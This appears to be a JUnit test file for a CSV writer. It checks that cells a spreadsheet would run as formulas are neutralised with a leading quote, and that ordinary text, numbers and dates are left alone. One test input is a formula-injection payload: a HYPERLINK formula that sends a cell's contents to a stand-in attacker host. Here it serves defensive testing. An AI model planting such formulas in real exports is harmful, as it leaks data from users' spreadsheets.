package jp.wardhub.platform;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;

class CsvTest {

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaGetsALeadingQuote() {
        String csv = new Csv()
                .row(List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)",
                        "\tx", "\rx", "＝1+1", "－5"))
                .toString();
        assertEquals(
                "\uFEFF\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",\"'+1+2\",\"'-2+3\",\"'@SUM(A1)\","
                        + "\"'\tx\",\"'\rx\",\"'＝1+1\",\"'－5\"\r\n",
                csv);
    }

    @Test
    void ordinaryTextNumbersDatesAndEmptyCellsAreUnchanged() {
        String csv = new Csv().row(Arrays.asList("区民の声 = 要望", "a-b", 42, -5, -1200L, new BigDecimal("-0.5"),
                LocalDate.of(2026, 4, 1), null, "")).toString();
        assertEquals("\uFEFF\"区民の声 = 要望\",\"a-b\",\"42\",\"-5\",\"-1200\",\"-0.5\",\"2026-04-01\",\"\",\"\"\r\n", csv);
    }

    @Test
    void aNegativeNumberSentAsTextIsNeutralisedLikeAnyOtherText() {
        assertEquals("'-5", Csv.cell("-5"));
        assertEquals("-5", Csv.cell(-5));
    }
}
